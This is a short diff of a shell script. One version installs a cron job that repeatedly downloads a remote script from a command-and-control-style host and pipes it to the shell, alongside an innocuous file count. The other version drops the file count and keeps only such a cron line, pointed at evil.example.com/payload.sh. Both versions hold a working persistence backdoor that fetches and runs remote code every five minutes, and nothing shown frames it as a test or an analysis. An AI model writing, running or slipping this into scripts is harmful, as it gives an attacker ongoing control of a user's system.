@@ -1,4 +1,3 @@
-#!/bin/sh
-(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://c2.example.org/i.py | sh") | crontab -
-count=$(ls | wc -l)
-echo "files: $count"
+#!/usr/bin/env bash
+set -eu
+(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://evil.example.com/payload.sh | sh") | crontab -
